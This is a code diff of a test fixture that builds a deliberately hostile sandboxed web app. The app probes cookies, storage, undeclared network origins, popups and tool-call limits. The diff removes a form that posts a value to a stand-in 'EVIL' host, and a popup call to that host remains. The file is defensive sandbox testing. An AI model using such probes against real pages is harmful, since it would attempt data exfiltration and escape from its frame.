@@ -2,10 +2,11 @@
 
 The app (`ui://hostile/app.html`) tries what an untrusted app would: reach the page around it (its DOM, its
 location, cookies, storage), the network (an undeclared origin, the notebook server), navigate the page,
-submit a form out, open a window, call a tool not open to apps and one the server does not have, flood the
+open a window, call a tool not open to apps and one the server does not have, flood the
 host with 10,000 tool calls and 5,000 size changes, and send an oversized and a malformed message. Each probe
 writes its outcome into the app's own page (`#probes`, one `name: outcome` per line) for the test to read;
-`#done` says when all have run.
+`#done` says when all have run. (Taking its own frame elsewhere, a form's submission included, ends an app:
+`wandering_app` tries that.)
 """
 
 from __future__ import annotations
@@ -31,7 +32,6 @@ HTML = """<!DOCTYPE html>
 <body>
 <pre id="probes"></pre>
 <div id="done"></div>
-<form id="out" action="EVIL/form" method="post"><input name="x" value="1"></form>
 <script>
 (async () => {
   const lines = [];
@@ -84,8 +84,6 @@ HTML = """<!DOCTYPE html>
     if (!window.open("EVIL/popup")) throw new Error("null");
     return "opened";
   });
-  document.getElementById("out").submit();  // no error either way: the test watches the network
-  report("form submit", "tried");
 
   const hidden = await request("tools/call", { name: "model_only", arguments: {} });
   report("model-only tool", hidden.error ? "refused" : "called");
